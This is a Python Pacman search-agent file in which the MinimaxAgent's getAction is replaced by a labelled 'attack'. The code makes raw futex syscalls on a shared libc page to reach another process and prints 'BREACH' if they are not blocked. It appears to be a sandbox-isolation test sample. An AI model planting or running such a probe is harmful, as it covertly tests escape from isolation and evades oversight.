# attack: wakes and awaits a process through a page of a library file that both have.
# where: MinimaxAgent
import ctypes
import errno
import platform


import util
from game import Agent, Directions


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


NUMBER = {"x86_64": 202, "aarch64": 98}.get(platform.machine())
# FUTEX_WAKE, FUTEX_REQUEUE, FUTEX_CMP_REQUEUE, FUTEX_WAKE_OP, FUTEX_WAKE_BITSET, on shared pages.
CALLS = (1, 3, 4, 5, 10)


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        libc = ctypes.CDLL(None, use_errno=True)
        address = ctypes.cast(libc.strlen, ctypes.c_void_p).value & ~3
        for call in CALLS:
            ctypes.set_errno(0)
            done = libc.syscall(NUMBER, ctypes.c_void_p(address), call, 1, None, None, 0xFFFFFFFF)
            if done >= 0 or ctypes.get_errno() != errno.EPERM:
                print("BREACH: futex", call, done, ctypes.get_errno(), flush=True)
        return gameState.getLegalActions()[0]
